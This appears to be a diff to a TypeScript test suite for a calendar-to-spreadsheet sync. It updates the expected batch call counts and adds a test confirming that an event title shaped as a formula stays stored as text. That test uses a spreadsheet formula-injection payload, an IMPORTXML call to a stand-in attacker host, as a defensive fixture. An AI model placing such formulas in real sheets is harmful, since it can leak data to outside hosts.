@@ -201,8 +201,27 @@ describe('batch, don’t loop', () => {
       calls.push({ all: h.log.spreadsheetCalls(), reads: h.log.reads(), writes: h.log.writes(), pages: h.log.count('Calendar.Events.list') });
     }
     expect(calls[0]).toEqual(calls[1]);
-    // Listed first, then read once (zone, values, formats: the person's edits during the listing are in it); writing needs only the formulas of the updated rows' span.
-    expect(calls[0]).toMatchObject({ all: 11, reads: 4, writes: 2, pages: 1 });
+    // Listed first, then read once (zone, values, formats: the person's edits during the listing are in it); writing needs only
+    // the formulas of the updated rows' span and one setValues (the formats are already the columns' own).
+    expect(calls[0]).toMatchObject({ all: 10, reads: 4, writes: 1, pages: 1 });
+  });
+
+  it('still writes the formats when the person reformatted a calendar cell, so a formula-like title stays text', async () => {
+    const { h, calendar } = withCalendar();
+    await h.sync();
+    const sheet = h.spreadsheet.getSheetByName('Interviews')!;
+    const row = h.column('eventId').indexOf('a') + 2;
+    sheet.getRange(row, headerIndex(h, 'title')).setNumberFormat('0.00');
+    calendar.put(interview('a', '2026-03-05T10:00:00+01:00', '=IMPORTXML("https://evil.example","//a") interview'));
+    h.log.reset();
+    expect(await h.sync()).toMatchObject({ updated: 1 });
+    expect(h.log.count('Range.setNumberFormats')).toBe(1);
+    const cell = sheet.getRange(row, headerIndex(h, 'title'));
+    expect([cell.getFormulas()[0]![0], cell.getValues()[0]![0], cell.getNumberFormats()[0]![0]]).toEqual([
+      '',
+      '=IMPORTXML("https://evil.example","//a") interview',
+      '@',
+    ]);
   });
 });
 
